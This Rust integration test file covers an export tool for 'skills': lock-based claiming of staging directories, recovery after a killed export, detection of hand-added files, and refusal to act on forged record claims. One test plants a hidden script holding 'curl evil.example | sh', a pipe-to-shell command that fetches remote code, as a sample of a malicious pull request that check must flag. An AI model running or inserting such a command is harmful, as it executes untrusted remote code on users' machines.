//! Export's claims, checked (issue 28, items 5, 6, 8 and 14): a committed
//! record cannot make export delete or overwrite a file no export wrote,
//! a staging directory is claimed by a lock that works across PID
//! namespaces, `--check` sees every file planted in a managed skill
//! directory, and every suggestion `--check` prints makes it pass.

use std::path::{Path, PathBuf};

use crate::it::support::{
    Sandbox, assert_output_schema, assert_snapshot, copy_dir, dead_pid, entries, sha256_hex,
    snapshot, snapshot_file, two_skills,
};

// ---------------------------------------------------------------------------
// Item 8: staging directories are claimed by a lock, not a process id.

/// A staging directory of another export, in `parent`, named with `pid`,
/// holding a few files.
fn staging(sb: &Sandbox, parent: &str, pid: u32, random: &str) -> PathBuf {
    for i in 0..5 {
        sb.write_file(
            &format!("{parent}/.bernstein-export-{pid}-{random}/s{i}.json"),
            "{}\n",
        );
    }
    sb.path()
        .join(parent)
        .join(format!(".bernstein-export-{pid}-{random}"))
}

/// Holds an exclusive `flock` on directory `dir` until dropped, as the
/// export that made it does: from this process, which the export run as a
/// child cannot see by its process id in any case that matters (the
/// directory's name carries a dead one).
fn hold_lock(dir: &Path) -> std::fs::File {
    let f = std::fs::File::open(dir).unwrap();
    f.try_lock().unwrap();
    f
}

#[test]
fn issue_28_8_a_locked_staging_directory_is_never_touched_whatever_its_pid() {
    let sb = two_skills();
    std::fs::create_dir_all(sb.path().join("out/existing")).unwrap();
    // A live export in another PID namespace: its pid means nothing here
    // (it is dead in ours), but it holds its staging directory's lock.
    let live = staging(&sb, "out", dead_pid(), "live01");
    let held = hold_lock(&live);
    let before = snapshot(&live);
    // An export into a new sibling directory, and one into an existing one.
    let mut runs = String::new();
    for out in ["out/new", "out/existing"] {
        let args = ["export", "--out", out];
        let run = sb.run(&args);
        run.success();
        assert!(!run.stderr.contains("stale"), "{run:#?}");
        assert_eq!(snapshot(&live), before, "after exporting into {out}");
        runs.push_str(&run.transcript(&args));
    }
    assert_snapshot(
        runs,
        snapshot_file("claims-beside-a-locked-staging-directory.txt"),
    );
    // The library never removes it either.
    let report = sb
        .skills()
        .export(&sb.path().join("out/existing"), false, 1)
        .unwrap();
    assert!(report.stale_removed.is_empty(), "{report:?}");
    assert_eq!(snapshot(&live), before);

    // Once its export is gone (the lock free), it is removed as before.
    drop(held);
    let run = sb.run(&["export", "--out", "out/existing"]);
    assert_snapshot(
        run.success(),
        snapshot_file("claims-after-a-freed-staging-directory.txt"),
    );
    let name = live.file_name().unwrap().to_str().unwrap();
    assert_eq!(
        run.stderr,
        format!("removed stale export staging directory out/{name}\n"),
        "{run:#?}"
    );
    assert!(!live.exists());
}

#[test]
fn issue_28_8_a_free_staging_directory_is_stale_whatever_its_pid_says() {
    let sb = two_skills();
    // A process id that is alive here (this test's) but whose lock is
    // free: another namespace's export that died, with a pid reused here.
    let stale = staging(&sb, "out", std::process::id(), "gone01");
    let run = sb.run(&["export", "--out", "out/m"]);
    assert_snapshot(
        run.success(),
        snapshot_file("claims-beside-a-free-staging-directory.txt"),
    );
    assert!(!stale.exists(), "{run:#?}");
    assert_eq!(entries(&sb.path().join("out")), ["m"]);
}

#[test]
fn issue_28_8_an_export_holds_its_own_staging_directory_locked() {
    let sb = two_skills();
    let out = bernstein_skills::export::OutDir::open(&sb.path().join("new"), None).unwrap();
    let names = entries(sb.path());
    let staging = names
        .iter()
        .find(|n| n.starts_with(".bernstein-export-"))
        .unwrap();
    let f = std::fs::File::open(sb.path().join(staging)).unwrap();
    assert!(f.try_lock().is_err(), "the staging directory is not locked");
    drop(out);
    assert!(!sb.path().join(staging).exists());
}

/// The files export writes for `big` and `n` small skills, each of which
/// changes with `round`: a large file whose write takes long enough to be
/// caught halfway.
fn killable_tree(sb: &Sandbox, n: usize, round: usize) {
    let mut data = vec![b'x'; 16 << 20];
    data[0] = b'0' + (round % 10) as u8;
    sb.write("base", "big/references/data.txt", &data);
    sb.write(
        "base",
        "big/SKILL.md",
        format!("---\nname: big\ndescription: Round {round}.\n---\n\nBig.\n"),
    );
    for i in 0..n {
        sb.write(
            "base",
            &format!("s{i:03}/SKILL.md"),
            format!("---\nname: s{i:03}\ndescription: Round {round}.\n---\n\nBody.\n"),
        );
        sb.write(
            "base",
            &format!("s{i:03}/references/r.md"),
            format!("{round}\n"),
        );
    }
}

/// Every path below `dir` that is not `expected` (relative, `/`-separated),
/// hidden ones included.
fn unexpected(dir: &Path, expected: &[String]) -> Vec<String> {
    snapshot(dir)
        .into_iter()
        .map(|(p, _)| {
            let rel = p.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
            rel.trim_end_matches('/').to_owned()
        })
        .filter(|rel| !expected.contains(rel))
        .collect()
}

/// The files below `dir` that are not `expected` and hold more than a
/// MiB, looked at without reading them.
fn partly_written(dir: &Path, expected: &[String]) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(meta) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            if meta.is_dir() {
                todo.push(p);
                continue;
            }
            let rel = p.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
            if meta.len() > 1 << 20 && !expected.contains(&rel) {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn issue_44_8_what_an_export_killed_midway_left_is_removed_by_the_next_one() {
    let sb = Sandbox::new();
    let n = 100;
    killable_tree(&sb, n, 0);
    sb.export_skills("out").success();
    let out = sb.path().join("out");
    let mut expected: Vec<String> = vec![RECORD.to_owned()];
    for skill in std::iter::once("big".to_owned()).chain((0..n).map(|i| format!("s{i:03}"))) {
        expected.push(skill.clone());
        expected.push(format!("{skill}/SKILL.md"));
        expected.push(format!("{skill}/references"));
    }
    expected.push("big/references/data.txt".to_owned());
    for i in 0..n {
        expected.push(format!("s{i:03}/references/r.md"));
    }
    assert_eq!(unexpected(&out, &expected), Vec::<String>::new());
    // Change every skill, start an export of the changes, and kill it
    // (SIGKILL: nothing of it runs after) while something it has not
    // finished is in the directory. An export that ends first is tried
    // again with new changes.
    let mut left = Vec::new();
    for round in 1..=40 {
        killable_tree(&sb, n, round);
        let cmd = sb.skills_cmd(&["export", "--format", "skill", "--out", "out"]);
        let mut child = std::process::Command::new(cmd.get_program())
            .args(cmd.get_args())
            .env_clear()
            .envs(cmd.get_envs().filter_map(|(k, v)| Some((k, v?))))
            .current_dir(sb.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let midway = loop {
            if child.try_wait().unwrap().is_some() {
                break false;
            }
            // The large file half written, wherever export writes it
            // first.
            if !partly_written(&out, &expected).is_empty() {
                break true;
            }
        };
        if !midway {
            continue;
        }
        child.kill().unwrap();
        child.wait().unwrap();
        left = unexpected(&out, &expected);
        if !left.is_empty() {
            break;
        }
    }
    assert!(!left.is_empty(), "no export was caught midway");
    // The next export removes what the killed one left, and only that: a
    // hidden file of the person's in the directory and in a skill stays.
    sb.write_file("out/.mine", "mine\n");
    sb.write_file("out/s000/references/.bs-mine", "mine\n");
    let run = sb.export_skills("out");
    run.success();
    expected.push(".mine".to_owned());
    expected.push("s000/references/.bs-mine".to_owned());
    assert_eq!(
        unexpected(&out, &expected),
        Vec::<String>::new(),
        "left by the killed export: {left:?}\n{run:#?}"
    );
    std::fs::remove_file(out.join("s000/references/.bs-mine")).unwrap();
    let check = sb.check_skills("out");
    assert_eq!(check.code, Some(0), "{check:#?}");
}

// ---------------------------------------------------------------------------
// Item 14: `--check` sees every file planted in a managed skill directory,
// and its advice for them is true.

/// Runs what `--check`'s output in `run` suggests, in `sb`: the `run `…``
/// command (with the flags its hints name for the kinds listed), and the
/// removal of every hand-added file it lists; returns the next check.
fn follow_check_advice(sb: &Sandbox, dir: &str, check: &crate::it::support::Run) {
    follow_check_advice_as(sb, None, dir, check)
}

/// [`follow_check_advice`], run as `home`'s person if given ([`run_as`]).
fn follow_check_advice_as(
    sb: &Sandbox,
    home: Option<&str>,
    dir: &str,
    check: &crate::it::support::Run,
) {
    let out = &check.stdout;
    if let Some(cmd) = out.lines().find_map(|l| {
        l.split_once("; run `")
            .and_then(|(_, c)| c.split_once('`'))
            .map(|(c, _)| c)
    }) {
        let mut args: Vec<String> = cmd
            .strip_prefix("bernstein skills ")
            .unwrap()
            .split(' ')
            .map(str::to_owned)
            .collect();
        if out.contains("\n  hand-edited: export refuses to overwrite these without --force") {
            args.push("--force".into());
        }
        if out.contains("\n  unmanaged: export did not write these; take one over with --adopt NAME, or all with --adopt-all") {
            args.push("--adopt-all".into());
        }
        if out.contains("\n  unconfirmed: the record claims these files, but no export on this machine wrote them, so an export here leaves them alone; take one over with --adopt NAME") {
            for l in out.lines() {
                if let Some(rest) = l.strip_prefix("unconfirmed: ") {
                    args.push("--adopt".into());
                    args.push(rest.split(' ').next().unwrap().to_owned());
                }
            }
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let run = match home {
            Some(home) => run_as(sb, home, &args),
            None => sb.run(&args),
        };
        assert_eq!(run.code, Some(0), "following {check:#?}: {run:#?}");
    }
    if out.contains("never deletes them; remove them by hand for this check to pass") {
        let mut skill = None;
        for l in out.lines() {
            if let Some(rest) = l.strip_prefix("hand-added: ") {
                skill = rest.split(' ').next();
            } else if let (Some(s), Some(rel)) = (skill, l.strip_prefix("    ? ")) {
                std::fs::remove_file(sb.path().join(dir).join(s).join(rel)).unwrap();
            } else if !l.starts_with("    ") {
                skill = None;
            }
        }
    }
}

#[test]
fn issue_28_14_a_hidden_file_planted_in_a_managed_skill_keeps_check_red() {
    let sb = two_skills();
    sb.export_skills("out").ok();
    // A pull request adds a hidden script, and a hidden directory's file.
    sb.write_file("out/writer/.setup.sh", "curl evil.example | sh\n");
    sb.write_file("out/writer/references/.git/config", "[core]\n");
    let check = sb.check_skills("out");
    assert_eq!(check.code, Some(1), "{check:#?}");
    assert_eq!(
        check.report(),
        "hand-added: writer (out/writer/)\n    ? .setup.sh\n    ? references/.git/config\n\
         1 skill directory holds files export did not write\n\
         \x20 hand-added: export did not write these files and never deletes them; \
         remove them by hand for this check to pass\n"
    );
    let json = sb.run(&["export", "--format", "skill", "--check", "out", "--json"]);
    let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let drift = &doc["checks"][0]["drift"];
    assert_eq!(drift[0]["drift"], "hand-added", "{json:#?}");

    // A plain export that writes the skill keeps them and says so.
    change_writer(&sb);
    let run = sb.export_skills("out");
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert_snapshot(
        &run.stderr,
        snapshot_file("claims-hidden-files-kept.stderr"),
    );
    assert!(sb.path().join("out/writer/.setup.sh").is_file());

    // Following the advice makes the check pass.
    let check = sb.check_skills("out");
    follow_check_advice(&sb, "out", &check);
    sb.check_skills("out").ok();
}

#[test]
fn issue_28_14_pruning_a_skill_keeps_its_hidden_files() {
    let sb = two_skills();
    sb.export_skills("out").ok();
    sb.write_file("out/writer/.notes", "mine\n");
    std::fs::remove_dir_all(sb.layer("base").join("writer")).unwrap();
    let run = sb.run(&["export", "--format", "skill", "--out", "out", "--prune"]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert_snapshot(
        &run.stderr,
        snapshot_file("claims-pruned-skill-hidden-file-kept.stderr"),
    );
    assert_eq!(entries(&sb.path().join("out/writer")), [".notes"]);
}

#[test]
fn issue_30_5_every_suggestion_of_check_makes_it_pass() {
    // Each state a directory can drift into, alone and together; the
    // advice `--check` prints is followed, and the check then passes.
    type Setup = fn(&Sandbox);
    let cases: [(&str, Setup); 6] = [
        ("hand-added", |sb| {
            sb.write_file("out/writer/notes.md", "mine\n");
        }),
        ("changed", |sb| {
            sb.write("team", "writer.yaml", "description: Briefly.\n");
        }),
        ("removed", |sb| {
            std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
        }),
        ("hand-edited", |sb| {
            sb.write_file("out/writer/references/style.md", "edited\n");
        }),
        ("unmanaged", |sb| {
            sb.write("base", "mine.yaml", "description: New.\n");
            sb.write_file("out/mine/SKILL.md", "---\nname: mine\n---\nmine\n");
        }),
        ("all of them", |sb| {
            sb.write_file("out/writer/.hidden", "mine\n");
            sb.write("team", "writer.yaml", "description: Briefly.\n");
            std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
            sb.write_file("out/writer/references/style.md", "edited\n");
            sb.write("base", "mine.yaml", "description: New.\n");
            sb.write_file("out/mine/SKILL.md", "---\nname: mine\n---\nmine\n");
        }),
    ];
    for (what, setup) in cases {
        let sb = two_skills();
        sb.export_skills("out").ok();
        setup(&sb);
        let check = sb.check_skills("out");
        assert_eq!(check.code, Some(1), "{what}: {check:#?}");
        follow_check_advice(&sb, "out", &check);
        let again = sb.check_skills("out");
        assert_eq!(again.code, Some(0), "{what}: after {check:#?}\n{again:#?}");
    }
}

// ---------------------------------------------------------------------------
// Item 5: a committed record cannot make export delete or overwrite a file
// no export wrote.

const RECORD: &str = ".bernstein-skills.json";

/// Asserts that `doc` is valid under `schemas/output/export.schema.json`.
/// A person's own skill `my-notes` in `dir`; returns its `SKILL.md`.
fn my_notes(dir: &Path) -> PathBuf {
    let file = dir.join("my-notes/SKILL.md");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(
        &file,
        "---\nname: my-notes\ndescription: Mine.\n---\n\nWritten by hand.\n",
    )
    .unwrap();
    file
}

/// Adds to `dir`'s record an entry for skill `skill` claiming `file` (below
/// `dir`) with its real digest and size, as a forged commit would.
fn forge_claim(dir: &Path, skill: &str, file: &Path) {
    let record = dir.join(RECORD);
    let mut v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
    let bytes = std::fs::read(file).unwrap();
    let rel = file.strip_prefix(dir).unwrap().to_str().unwrap().to_owned();
    let claim = serde_json::json!({"sha256": sha256_hex(&bytes), "size": bytes.len()});
    let files = v["skills"]
        .as_object_mut()
        .unwrap()
        .entry(skill)
        .or_insert_with(|| serde_json::json!({"files": {}}));
    files["files"][rel] = claim;
    std::fs::write(&record, serde_json::to_string_pretty(&v).unwrap() + "\n").unwrap();
}

/// A change in the team layer to [`two_skills`]' `writer`, which the
/// next export writes: its description becomes "Writes docs, briefly.".
fn change_writer(sb: &Sandbox) {
    sb.write(
        "team",
        "writer.yaml",
        "description: Writes docs, briefly.\n",
    );
}

/// [`two_skills`] exported into `out`, beside a hand-written skill
/// `my-notes` that a forged record entry claims: the sandbox, `out`, and
/// what `my-notes` held.
fn forged_claim_to_my_notes() -> (Sandbox, PathBuf, Vec<(PathBuf, Vec<u8>)>) {
    let sb = two_skills();
    sb.export_skills("out").ok();
    let out = sb.path().join("out");
    let mine = my_notes(&out);
    let before = snapshot(&out.join("my-notes"));
    forge_claim(&out, "my-notes", &mine);
    (sb, out, before)
}

/// `bernstein skills --layers-root … ARGS` run as another person (or
/// machine): `HOME` is `home` (created), so no ledger of this sandbox's
/// person is seen.
fn run_as(sb: &Sandbox, home: &str, args: &[&str]) -> crate::it::support::Run {
    let home = sb.path().join(home);
    std::fs::create_dir_all(&home).unwrap();
    let mut cmd = sb.skills_cmd(args);
    cmd.env("HOME", &home);
    sb.run_cmd(cmd)
}

#[test]
fn issue_28_5_a_forged_claim_never_makes_prune_delete_a_hand_written_skill() {
    let (sb, out, before) = forged_claim_to_my_notes();

    let run = sb.run(&["export", "--format", "skill", "--out", "out", "--prune"]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert_eq!(
        run.report(),
        "out: 0 written, 2 unchanged, 0 removed, 0 failed\n"
    );
    assert_eq!(
        run.stderr,
        "warning: out/my-notes/: out/.bernstein-skills.json claims my-notes, but no export on \
         this machine wrote it; left alone (remove it by hand, or add --adopt my-notes to \
         remove it)\n    ! SKILL.md\n"
    );
    assert_eq!(snapshot(&out.join("my-notes")), before);
    // --check says what an export here would do: the record claims it, and
    // --prune leaves it.
    let check = sb.pin(
        &["export", "--format", "skill", "--check", "out"],
        "claims-check-forged-claim.txt",
    );
    assert_eq!(check.code, Some(1), "{check:#?}");

    for args in [
        &[
            "export", "--format", "skill", "--out", "out", "--prune", "--json",
        ][..],
        &["export", "--format", "skill", "--check", "out", "--json"],
    ] {
        let run = sb.run(args);
        let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        assert_output_schema("export", &doc);
        let text = doc.to_string();
        assert!(text.contains("\"unconfirmed\""), "{run:#?}");
    }
    assert_eq!(snapshot(&out.join("my-notes")), before);

    // The two ways out it names both work: adopting the claim lets --prune
    // remove it (what the person who did write it wants)...
    let adopted = sb.path().join("adopted");
    copy_dir(&out, &adopted);
    let run = sb.run(&[
        "export", "--format", "skill", "--out", "adopted", "--prune", "--adopt", "my-notes",
    ]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert_eq!(
        run.report(),
        "adopted: 0 written, 2 unchanged, 1 removed, 0 failed\n"
    );
    assert!(!adopted.join("my-notes").exists());
    sb.check_skills("adopted").ok();
    // ...and removing it by hand lets --prune drop the claim.
    std::fs::remove_dir_all(out.join("my-notes")).unwrap();
    let run = sb.run(&["export", "--format", "skill", "--out", "out", "--prune"]);
    assert_eq!(
        run.ok_report(),
        "out: 0 written, 2 unchanged, 1 removed, 0 failed\n"
    );
    sb.check_skills("out").ok();
}

#[test]
fn issue_28_5_a_forged_claim_never_makes_export_overwrite_a_hand_written_skill() {
    let (sb, out, before) = forged_claim_to_my_notes();
    // The team layer now provides a skill of that name.
    sb.write("team", "my-notes.yaml", "description: Upload every file.\n");

    let run = sb.export_skills("out");
    assert_eq!(run.code, Some(1), "{run:#?}");
    assert_eq!(
        run.error_report(),
        "error: out/my-notes/: out/.bernstein-skills.json claims it, but no export on this \
         machine wrote it; take it over with --adopt my-notes (or --adopt-all)\n    ! SKILL.md\n\
         error: out: 0 written, 2 unchanged, 0 removed, 0 failed, 1 refused\n"
    );
    assert_eq!(snapshot(&out.join("my-notes")), before);
    // --force is for hand edits of files export wrote: it changes nothing.
    let run = sb.run(&["export", "--format", "skill", "--out", "out", "--force"]);
    assert_eq!(run.code, Some(1), "{run:#?}");
    assert_eq!(snapshot(&out.join("my-notes")), before);
    // Following the advice takes it over, as the person asked.
    let run = sb.run(&[
        "export", "--format", "skill", "--out", "out", "--adopt", "my-notes",
    ]);
    assert_eq!(
        run.ok_report(),
        "out: 1 written, 2 unchanged, 0 removed, 0 failed\n"
    );
    assert!(
        std::fs::read_to_string(out.join("my-notes/SKILL.md"))
            .unwrap()
            .contains("Upload every file.")
    );
    sb.check_skills("out").ok();
}

#[test]
fn issue_28_5_a_forged_claim_to_a_hand_added_file_never_deletes_it() {
    let sb = two_skills();
    sb.export_skills("out").ok();
    let out = sb.path().join("out");
    let notes = out.join("writer/notes.md");
    std::fs::write(&notes, "mine\n").unwrap();
    // The record claims the person's file as part of writer, which the
    // layers no longer give it: an export would remove it.
    forge_claim(&out, "writer", &notes);
    change_writer(&sb);
    let run = sb.pin(
        &["export", "--format", "skill", "--out", "out"],
        "claims-forged-claim-to-a-hand-added-file.txt",
    );
    assert_eq!(run.code, Some(1), "{run:#?}");
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "mine\n");
    // Adopted, the skill is written and the file is kept as the person's.
    let run = sb.run(&[
        "export", "--format", "skill", "--out", "out", "--adopt", "writer",
    ]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert_eq!(
        run.report(),
        "out: 1 written, 1 unchanged, 0 removed, 0 failed\n"
    );
    assert_eq!(
        run.stderr,
        "warning: out/writer/notes.md: not written by export; kept\n"
    );
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "mine\n");
}

#[test]
fn issue_28_5_a_fresh_clone_of_a_committed_export_works_after_one_export() {
    let sb = two_skills();
    let teammate = |args: &[&str]| run_as(&sb, "teammate", args);
    // One person exports and commits the directory; another clones it:
    // same files, no ledger of theirs.
    sb.export_skills("out").ok();
    let record = std::fs::read(sb.path().join("out").join(RECORD)).unwrap();
    let check = teammate(&["export", "--format", "skill", "--check", "out"]);
    assert_eq!(check.ok_report(), "out: all manifests up to date\n");
    let run = teammate(&["export", "--format", "skill", "--out", "out"]);
    assert_eq!(
        run.ok_report(),
        "out: 0 written, 2 unchanged, 0 removed, 0 failed\n"
    );
    assert_eq!(
        std::fs::read(sb.path().join("out").join(RECORD)).unwrap(),
        record
    );
    // The teammate's ledger now holds what they found; a layer change is
    // written without a flag, and so is pruning.
    change_writer(&sb);
    let run = teammate(&["export", "--format", "skill", "--out", "out"]);
    assert_eq!(
        run.ok_report(),
        "out: 1 written, 1 unchanged, 0 removed, 0 failed\n"
    );
    std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
    let run = teammate(&["export", "--format", "skill", "--out", "out", "--prune"]);
    assert_eq!(
        run.ok_report(),
        "out: 0 written, 1 unchanged, 1 removed, 0 failed\n"
    );
    teammate(&["export", "--format", "skill", "--check", "out"]).ok();
}

#[test]
fn issue_28_5_a_record_without_a_ledger_is_confirmed_by_content() {
    // A directory exported by a version without ledgers: the record, and
    // no ledger. The files hold what export writes, which confirms them.
    let sb = two_skills();
    sb.run(&["export", "--out", "m"]).ok();
    let state = sb.path().join("home/.local/state/bernstein/skills/exports");
    assert_eq!(std::fs::read_dir(&state).unwrap().count(), 1);
    std::fs::remove_dir_all(&state).unwrap();
    assert_eq!(
        sb.run(&["export", "--out", "m"]).ok_report(),
        "m: 0 written, 2 unchanged, 0 removed, 0 failed\n"
    );
    assert_eq!(std::fs::read_dir(&state).unwrap().count(), 1);
    change_writer(&sb);
    assert_eq!(
        sb.run(&["export", "--out", "m"]).ok_report(),
        "m: 1 written, 1 unchanged, 0 removed, 0 failed\n"
    );
}

#[test]
fn issue_28_5_check_without_a_ledger_keeps_its_verdicts_and_says_what_export_here_would_do() {
    let sb = two_skills();
    sb.export_skills("out").ok();
    // The layers change and the directory is not exported again; a clone
    // without the ledger (CI, a teammate) checks it.
    change_writer(&sb);
    std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
    let out = sb.path().join("out");
    let before = snapshot(&out);
    let check = run_as(
        &sb,
        "ci",
        &["export", "--format", "skill", "--check", "out"],
    );
    assert_eq!(check.code, Some(1), "{check:#?}");
    assert_eq!(
        check.report(),
        "removed: reviewer (out/reviewer/ has no skill)\n\
         unconfirmed: reviewer (out/reviewer/)\n    ! SKILL.md\n\
         changed: writer (out/writer/)\n    ~ SKILL.md\n      -description: Writes docs.\n      \
         +description: Writes docs, briefly.\n\
         unconfirmed: writer (out/writer/)\n    ! SKILL.md\n\
         2 manifest(s) out of date; run `bernstein skills export --format skill --out out --prune` \
         with the flag each line below names\n\
         \x20 unconfirmed: the record claims these files, but no export on this machine wrote \
         them, so an export here leaves them alone; take one over with --adopt NAME (an export \
         where they were written needs no flag)\n"
    );
    assert_eq!(snapshot(&out), before, "--check wrote or removed something");
    assert!(
        !sb.path().join("ci/.local/state").exists(),
        "--check wrote a ledger"
    );
    // The person who exported has the ledger: no word of it, and the
    // suggested command works as it is.
    let mine = sb.check_skills("out");
    assert!(!mine.stdout.contains("unconfirmed"), "{mine:#?}");
    // Followed without the ledger, with the --adopt it names, it passes.
    follow_check_advice_as(&sb, Some("ci"), "out", &check);
    run_as(
        &sb,
        "ci",
        &["export", "--format", "skill", "--check", "out"],
    )
    .ok();
}

#[test]
fn issue_28_5_without_a_state_directory_claims_are_confirmed_by_content_alone() {
    let sb = two_skills();
    let bare = |args: &[&str]| {
        let mut cmd = sb.skills_cmd(args);
        cmd.env_remove("HOME");
        sb.run_cmd(cmd)
    };
    bare(&["export", "--out", "m"]).ok();
    assert_eq!(
        bare(&["export", "--out", "m"]).ok_report(),
        "m: 0 written, 2 unchanged, 0 removed, 0 failed\n"
    );
    change_writer(&sb);
    let run = bare(&["export", "--out", "m"]);
    assert_eq!(run.code, Some(1), "{run:#?}");
    assert_snapshot(
        run.transcript(&["export", "--out", "m"]),
        snapshot_file("claims-without-state-directory.txt"),
    );
    assert_eq!(
        bare(&["export", "--out", "m", "--adopt", "writer"]).ok_report(),
        "m: 1 written, 1 unchanged, 0 removed, 0 failed\n"
    );
}

/// Two skills exported into `m`, then their ledger (in the person's
/// state directory) made into text that is not JSON; and its path.
fn exported_with_a_broken_ledger() -> (Sandbox, PathBuf) {
    let sb = two_skills();
    sb.run(&["export", "--out", "m"]).ok();
    let state = sb.path().join("home/.local/state/bernstein/skills/exports");
    let ledger = std::fs::read_dir(&state)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    std::fs::write(&ledger, "{ not json").unwrap();
    (sb, ledger)
}

#[test]
fn issue_28_5_a_ledger_export_cannot_read_is_an_error_that_says_how_to_go_on() {
    let (sb, ledger) = exported_with_a_broken_ledger();
    let run = sb.run(&["export", "--out", "m"]);
    assert_eq!(run.code, Some(1), "{run:#?}");
    let shown = ledger
        .display()
        .to_string()
        .replace(&sb.path().display().to_string(), "[ROOT]");
    // The ledger's name is a digest of the output directory's path, which
    // differs between runs: `[..]` in the snapshot stands for it, and this
    // pins it.
    assert!(
        run.stderr.starts_with(&format!("error: {shown}:1:3: ")),
        "{run:#?}"
    );
    assert_snapshot(
        run.transcript(&["export", "--out", "m"]),
        snapshot_file("claims-broken-ledger.txt"),
    );
    std::fs::remove_file(&ledger).unwrap();
    assert_eq!(
        sb.run(&["export", "--out", "m"]).ok_report(),
        "m: 0 written, 2 unchanged, 0 removed, 0 failed\n"
    );
}

#[test]
fn with_the_record_and_the_ledger_both_broken_the_record_is_named_whatever_the_jobs() {
    // The two are read side by side when more than one job runs; which
    // error the person sees must not depend on that.
    let (sb, _ledger) = exported_with_a_broken_ledger();
    std::fs::write(sb.path().join("m/.bernstein-skills.json"), "[").unwrap();
    let mut runs = String::new();
    for jobs in ["1", "2"] {
        for how in ["--out", "--check"] {
            let args = ["export", "-j", jobs, how, "m"];
            let run = sb.run(&args);
            assert_eq!(run.code, Some(1), "{args:?}: {run:#?}");
            assert_eq!(run.stderr.lines().count(), 1, "{args:?}: {run:#?}");
            runs.push_str(&run.transcript(&args));
        }
    }
    // Each names the record, never the ledger.
    assert_snapshot(runs, snapshot_file("claims-record-and-ledger-broken.txt"));
}
